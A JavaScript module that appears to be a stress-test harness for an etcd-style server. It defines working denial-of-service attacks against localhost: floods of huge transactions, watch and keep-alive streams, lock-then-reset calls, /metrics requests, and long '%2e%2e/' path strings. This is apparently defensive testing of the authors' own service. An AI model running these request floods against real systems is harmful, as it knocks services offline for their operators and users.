// @ts-check
/** Attacks that the protocol allows, on each of the services: requests that cost more to answer than to send. */
import { connect } from 'node:http2';
import { create, toBinary } from '@bufbuild/protobuf';
import {
  kvService,
  leaseService,
  LockRequestSchema,
  lockService,
  WatchRequestSchema,
  watchService,
} from '@varve/etcd-api';
import { callHeaders, flags, frame, message, types } from './frames.mjs';
import { many, nextStream, repeat } from './repeat.mjs';

const NOTHING = Buffer.alloc(0);
const [CONNECTIONS, CALLS] = [4, 4];
const rest = (/** @type {number} */ ms) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * Calls with one message each, as fast as a client that keeps to the windows is let.
 *
 * @param {import('./attacks.mjs').Target} target
 * @param {string} path
 * @param {Uint8Array} request
 */
async function calls({ port, isOver }, path, request) {
  const bytes = message(request);
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
  let count = 0;
  await Promise.all(
    Array.from({ length: CONNECTIONS * CALLS }, async (_, at) => {
      while (!isOver()) {
        const session = sessionAt(port, at % CONNECTIONS);
        const stream = session.request(headers);
        stream.on('error', () => undefined);
        stream.resume();
        stream.end(bytes);
        await Promise.race([new Promise((resolve) => stream.once('close', resolve)), rest(1000)]);
        count += 1;
        await rest(1);
      }
    }),
  );
  for (const session of sessions.values()) session.destroy();
  return count;
}

/** @type {Map<number, import('node:http2').ClientHttp2Session>} */
const sessions = new Map();

/** One that is open. @param {number} port @param {number} at */
function sessionAt(port, at) {
  const known = sessions.get(at);
  if (known !== undefined && !known.closed && !known.destroyed) return known;
  const session = connect(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  sessions.set(at, session);
  return session;
}

/** A call in frames. @param {number} stream @param {string} path @param {Uint8Array} request */
const call = (stream, path, request) =>
  Buffer.concat([
    frame(types.headers, flags.endHeaders, stream, callHeaders(path)),
    frame(types.data, flags.endStream, stream, message(request)),
  ]);

/** The beginning of a stream of messages. @param {number} stream @param {string} path */
const opened = (stream, path) => frame(types.headers, flags.endHeaders, stream, callHeaders(path));

/** A transaction of comparisons that say nothing: two bytes each. @param {number} count */
const comparisons = (count) => Buffer.alloc(2 * count, Buffer.of(0x0a, 0));

const watchAndCancel = [
  { case: /** @type {const} */ ('createRequest'), value: { key: Buffer.from('attacked'), watchId: 7n } },
  { case: /** @type {const} */ ('cancelRequest'), value: { watchId: 7n } },
].map((requestUnion) => message(toBinary(WatchRequestSchema, create(WatchRequestSchema, { requestUnion }))));

const lock = toBinary(LockRequestSchema, create(LockRequestSchema, { name: Buffer.from('attacked') }));

/** @param {string} target @param {string} [body] */
const http = (target, body) =>
  body === undefined
    ? Buffer.from(`GET ${target} HTTP/1.1\r\nhost: localhost\r\n\r\n`)
    : Buffer.from(`POST ${target} HTTP/1.1\r\nhost: localhost\r\ncontent-length: ${body.length}\r\n\r\n${body}`);

const emptyOperations = `{"compare":[${Array.from({ length: 20_000 }, () => '{}').join()}]}`;

/** @type {Readonly<Record<string, import('./attacks.mjs').Attack>>} */
export const serviceAttacks = {
  'a million comparisons': (target) => calls(target, kvService.txn.path, comparisons(1_000_000)),
  'twenty thousand comparisons': (target) => calls(target, kvService.txn.path, comparisons(20_000)),
  'watch and cancel': (target) =>
    repeat(target, 4, (connection) => {
      if (connection.stream === 1) return opened(nextStream(connection), watchService.watch.path);
      return many(50, () => Buffer.concat(watchAndCancel.map((one) => frame(types.data, 0, 1, one))));
    }),
  'keep-alives of nothing': (target) =>
    repeat(target, 4, (connection) => {
      if (connection.stream === 1) return opened(nextStream(connection), leaseService.leaseKeepAlive.path);
      return many(200, () => frame(types.data, 0, 1, message(NOTHING)));
    }),
  'locks taken back': (target) =>
    repeat(target, 4, (connection) =>
      many(10, () => {
        const stream = nextStream(connection);
        const code = Buffer.of(0, 0, 0, 8);
        return Buffer.concat([call(stream, lockService.lock.path, lock), frame(types.reset, 0, stream, code)]);
      }),
    ),
  'metrics without number': (target) => repeat(target, 4, () => many(20, () => http('/metrics')), NOTHING),
  'documents of nothing': (target) => repeat(target, 4, () => http('/v3/kv/txn', emptyOperations), NOTHING),
  'paths of nothing': (target) =>
    repeat(target, 4, () => many(50, () => http(`/v3/${'%2e%2e/'.repeat(300)}${'x'.repeat(3000)}`)), NOTHING),
};
